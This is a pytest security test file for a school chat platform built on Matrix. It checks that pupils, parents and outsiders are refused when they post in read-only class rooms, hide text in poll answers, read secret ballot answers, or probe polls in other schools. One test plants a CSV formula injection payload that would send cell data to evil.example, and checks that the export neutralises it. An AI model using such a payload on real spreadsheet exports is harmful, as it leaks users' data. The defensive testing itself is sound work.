"""Issue 11's attacks on learning materials and poll results: each is a real request refused with an
errcode and Parta's reason, next to the legitimate request that still succeeds (docs/security.md
lists them; the world is ``lessons_world``: school A's class 5А, its materials room, school B).
"""

from __future__ import annotations

import csv
import io

import pytest

from ..helpers import ok, q, refused
from .lessons_world import PDF, Lessons, build, poll_response, poll_start, redact, results, send, upload

pytestmark = pytest.mark.synapse
V = "/_matrix/client/v3"


@pytest.fixture(scope="module")
async def w(hs, tmp_path_factory) -> Lessons:
    return await build(hs, tmp_path_factory)



async def test_pupil_posts_in_class_materials(w):
    room = w.rooms["class_materials"]
    refused(await send(w.student, room), "announcements_read_only")
    mxc = await upload(w.parent, PDF, "answers.pdf")  # the parent's own file
    refused(await send(w.parent, room, content={"msgtype": "m.file", "body": "answers.pdf", "url": mxc}),
            "announcements_read_only")
    # a pupil's "reaction" carrying text is a post too
    teacher_post = ok(await send(w.teacher, room, content={"msgtype": "m.text", "body": "Конспект урока"}))
    refused(await send(w.student, room, "m.reaction", {"m.relates_to": {
        "rel_type": "m.annotation", "event_id": teacher_post["event_id"], "key": "ответы в личке"}}),
        "reaction_not_emoji")
    ok(await send(w.student, room, "m.reaction", {"m.relates_to": {
        "rel_type": "m.annotation", "event_id": teacher_post["event_id"], "key": "👍"}}))


async def test_pupil_of_another_class_joins_class_materials(w):
    room = w.rooms["class_materials"]
    refused(await w.other_class.attempt("POST", f"{V}/join/{q(room)}", {}), "not_for_class_materials")
    refused(await w.student_b.attempt("POST", f"{V}/join/{q(room)}", {}), "not_in_organization")
    ok(await w.classmate.attempt("POST", f"{V}/rooms/{q(room)}/leave", {}))
    ok(await w.classmate.attempt("POST", f"{V}/join/{q(room)}", {}))


async def test_pupil_asks_for_poll_results(w, hs):
    room = w.rooms["class_materials"]
    poll = ok(await send(w.teacher, room, *poll_start("unstable", "Кто пойдёт на олимпиаду?",
                                                      {"y": "Я", "n": "Не я"})))["event_id"]
    ok(await send(w.classmate, room, *poll_response("unstable", poll, "y")))
    for who in (w.student, w.parent):
        refused(await results(hs, who, room, poll), "poll_results_not_yours")
    refused(await results(hs, w.student, room, poll, "csv"), "poll_results_not_yours")
    assert ok(await results(hs, w.teacher, room, poll))["answered"] == 1


async def test_teacher_of_another_class_asks_for_poll_results(w, hs):
    room = w.rooms["class_announcements"]
    poll = ok(await send(w.teacher, room, *poll_start("stable", "Экскурсия в субботу?",
                                                      {"y": "Да", "n": "Нет"})))["event_id"]
    # not a member of 5А's room: as for an event that is not a poll (see the next test)
    code, body = await results(hs, w.other_teacher, room, poll)
    assert code == 404 and isinstance(body, dict) and body["errcode"] == "M_NOT_FOUND", body
    # the school's administration may, and the operator
    body = ok(await results(hs, w.admin, room, poll))
    assert body["poll"]["author"] == w.teacher.user_id
    assert ok(await results(hs, hs.settings.operator_token, room, poll))["poll"]["event_id"] == poll
    # what is not a poll, or not a school room, is not found
    for r, e in ((room, "$notapoll"), ("!nosuchroom:school.test", poll)):
        code, body = await results(hs, w.teacher, r, e)
        assert code == 404 and isinstance(body, dict) and body["errcode"] == "M_NOT_FOUND", body


async def test_pupil_writes_a_redaction_reason_in_class_materials(w):
    room = w.rooms["class_materials"]
    poll = ok(await send(w.teacher, room, *poll_start("stable", "Контрольная в пятницу?", {"y": "Да"})))["event_id"]
    mine = ok(await send(w.student, room, *poll_response("stable", poll, "y")))["event_id"]
    refused(await w.student.attempt("PUT", f"{V}/rooms/{q(room)}/redact/{q(mine)}/x1",
                                    {"reason": "все в чат 5А-неофициальный"}), "announcements_read_only")
    ok(await w.student.attempt("PUT", f"{V}/rooms/{q(room)}/redact/{q(mine)}/x2", {}))


async def test_redacting_an_undisclosed_poll_keeps_its_answers_secret(w):
    """F10: deleting a secret ballot's poll (its content, so its kind, is pruned) must not reveal the
    answers; nor may an answer to an event that is no readable poll be read by others."""
    room = w.rooms["class_materials"]
    poll = ok(await send(w.teacher, room, *poll_start("unstable", "Тайно: кто поедет на экскурсию?",
                                                      {"y": "Поедем", "n": "Нет"}, undisclosed=True)))["event_id"]
    answer = ok(await send(w.parent, room, *poll_response("unstable", poll, "y")))["event_id"]
    answer_url = f"{V}/rooms/{q(room)}/event/{q(answer)}"
    code, body = await w.student.attempt("GET", answer_url)
    assert code == 404 and body.get("errcode") == "M_NOT_FOUND", body
    ok(await redact(w.teacher, room, poll))
    code, body = await w.student.attempt("GET", answer_url)
    assert code == 404 and body.get("errcode") == "M_NOT_FOUND", body  # still secret once the poll is gone
    page = await w.student.get(f"{V}/rooms/{q(room)}/messages", {"dir": "b", "limit": "30"})
    assert answer not in {e["event_id"] for e in page["chunk"]}
    # an "answer" referring to no poll (a spoiled vote passes the read-only room) is not shown to others
    note = ok(await send(w.teacher, room, content={"msgtype": "m.text", "body": "Экскурсия отменяется"}))["event_id"]
    stray = ok(await send(w.parent, room, "m.poll.response", {
        "m.relates_to": {"rel_type": "m.reference", "event_id": note}, "m.selections": []}))["event_id"]
    code, body = await w.student.attempt("GET", f"{V}/rooms/{q(room)}/event/{q(stray)}")
    assert code == 404 and body.get("errcode") == "M_NOT_FOUND", body
    # the poll's author still sees the answer; an answer to a disclosed poll stays open to all
    ok(await w.teacher.attempt("GET", answer_url))
    ok(await w.parent.attempt("GET", answer_url))  # one's own answer
    open_poll = ok(await send(w.teacher, room, *poll_start("unstable", "Открыто: экскурсия?",
                                                           {"y": "Да"})))["event_id"]
    shown = ok(await send(w.parent, room, *poll_response("unstable", open_poll, "y")))["event_id"]
    ok(await w.student.attempt("GET", f"{V}/rooms/{q(room)}/event/{q(shown)}"))


async def test_pupil_reads_secret_answers_through_notifications(w):
    """F1: a pupil's own push rule that notifies on every poll answer; ``GET /notifications`` (and any
    HTTP pusher or e-mail, which read the same push actions) must not carry another's secret answer."""
    room = w.rooms["class_materials"]
    rule = f"{V}/pushrules/global/override/parta.test.answers"
    ok(await w.student.attempt("PUT", rule, {"conditions": [
        {"kind": "event_match", "key": "type", "pattern": "*poll.response"}], "actions": ["notify"]}))
    try:
        secret = ok(await send(w.teacher, room, *poll_start("unstable", "Тайно: староста класса?",
                                                            {"a": "Аня", "b": "Боря"}, undisclosed=True)))["event_id"]
        for flavour in ("unstable", "stable"):
            hidden = ok(await send(w.parent, room, *poll_response(flavour, secret, "b")))["event_id"]
            notes = (await w.student.get(f"{V}/notifications", {"limit": "50"}))["notifications"]
            assert hidden not in {n["event"]["event_id"] for n in notes}, notes
        # the same rule still notifies of an answer to a disclosed poll
        open_poll = ok(await send(w.teacher, room, *poll_start("stable", "Открыто: дежурный?",
                                                               {"a": "Аня"})))["event_id"]
        shown = ok(await send(w.parent, room, *poll_response("stable", open_poll, "a")))["event_id"]
        notes = (await w.student.get(f"{V}/notifications", {"limit": "50"}))["notifications"]
        assert shown in {n["event"]["event_id"] for n in notes}, notes
    finally:
        ok(await w.student.attempt("DELETE", rule))


async def test_parent_writes_text_inside_a_poll_answer_in_class_materials(w):
    """F6: text riding inside the response object, in the relation, or as answer ids."""
    room = w.rooms["class_materials"]
    poll = ok(await send(w.teacher, room, *poll_start("unstable", "Родительское собрание в четверг?",
                                                      {"a": "Приду", "b": "Не смогу"})))["event_id"]
    relates = {"rel_type": "m.reference", "event_id": poll}
    refused(await send(w.parent, room, "org.matrix.msc3381.poll.response", {
        "m.relates_to": relates, "org.matrix.msc3381.poll.response": {
            "answers": ["a"], "body": "пишите в Telegram @dyadya_vanya"}}), "announcements_read_only")
    refused(await send(w.parent, room, "org.matrix.msc3381.poll.response", {
        "m.relates_to": relates, "org.matrix.msc3381.poll.response": "пишите в Telegram"}), "announcements_read_only")
    refused(await send(w.parent, room, "m.poll.response", {
        "m.relates_to": {**relates, "key": "пишите в Telegram"}, "m.selections": ["a"]}), "announcements_read_only")
    body = refused(await send(w.parent, room, "org.matrix.msc3381.poll.response", {
        "m.relates_to": relates, "org.matrix.msc3381.poll.response": {
            "answers": ["a", "Девочки, пишите мне в Telegram"]}}), "poll_answer_not_in_poll")
    assert "только" in body["error"] or "only" in body["error"], body
    refused(await send(w.student, room, "m.poll.response", {
        "m.relates_to": relates, "m.selections": ["Пишите мне в Telegram @evil_adult"]}), "poll_answer_not_in_poll")
    refused(await send(w.student, room, "m.poll.response", {"m.relates_to": relates, "m.selections": ["a"] * 3}),
            "poll_answer_not_in_poll")
    # answers to what is not a poll name nothing
    note = ok(await send(w.teacher, room, content={"msgtype": "m.text", "body": "Собрание в четверг"}))["event_id"]
    refused(await send(w.student, room, "m.poll.response", {
        "m.relates_to": {"rel_type": "m.reference", "event_id": note}, "m.selections": ["пишите"]}),
        "poll_answer_not_in_poll")
    # the poll's own answers, a changed answer and a spoiled vote pass, in both flavours
    ok(await send(w.parent, room, *poll_response("unstable", poll, "a")))
    ok(await send(w.parent, room, *poll_response("stable", poll, "b")))
    ok(await send(w.student, room, *poll_response("unstable", poll)))


async def test_pupil_plants_a_formula_in_the_poll_results_csv(w, hs):
    """F4: a pupil's poll in the class chat whose answer is a spreadsheet formula, exported by the
    administrator "for Excel": the cell is neutralised (a leading ')."""
    room = w.rooms["class_chat"]
    formula = '=HYPERLINK("http://evil.example/?leak="&A2&H2,"Да")'
    poll = ok(await send(w.student, room, *poll_start("unstable", "Кто идёт в кино?", {
        "a": formula, "b": "-1+1", "c": "Иду"})))["event_id"]
    ok(await send(w.teacher, room, *poll_response("unstable", poll, "a")))
    ok(await send(w.classmate, room, *poll_response("unstable", poll, "c")))
    code, text = await results(hs, w.admin, room, poll, "csv")
    assert code == 200 and isinstance(text, str), text
    rows = {r[-1]: r for r in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")}
    assert rows[w.teacher.user_id][5] == "'" + formula
    # a plain answer and the account column (a Matrix user id, which starts with "@") stay as they are
    assert rows[w.classmate.user_id][5] == "Иду" and w.classmate.user_id in rows
    for row in rows.values():
        assert not row[0].startswith(("=", "+", "-", "@")) and not row[5].startswith(("=", "+", "-", "@")), row
    # the JSON keeps the poll's own text (it is data, not a spreadsheet)
    body = ok(await results(hs, w.admin, room, poll))
    assert body["poll"]["answers"][0]["text"] == formula


async def test_another_school_learns_whether_a_poll_exists(w, hs):
    """F9: poll results must not confirm to someone outside the room that a room is a school room and
    an event a poll there: the same 404 as for an event that is no poll."""
    room = w.rooms["class_materials"]
    poll = ok(await send(w.teacher, room, *poll_start("stable", "Олимпиада по математике?", {"y": "Да"})))["event_id"]
    for who in (w.student_b, w.outsider, w.other_class):
        seen = [await results(hs, who, r, e) for r, e in ((room, poll), (room, "$notapoll"),
                                                          ("!nosuchroom:school.test", poll))]
        for code, body in seen:
            assert code == 404 and isinstance(body, dict) and body["errcode"] == "M_NOT_FOUND", (who.user_id, body)
        assert seen[0][1]["error"].replace(poll, "$notapoll") == seen[1][1]["error"]  # the same words
        code, _csv = await results(hs, who, room, poll, "csv")
        assert code == 404
    # a member of the room is told it is not theirs; the author gets the results
    refused(await results(hs, w.student, room, poll), "poll_results_not_yours")
    assert ok(await results(hs, w.teacher, room, poll))["poll"]["event_id"] == poll
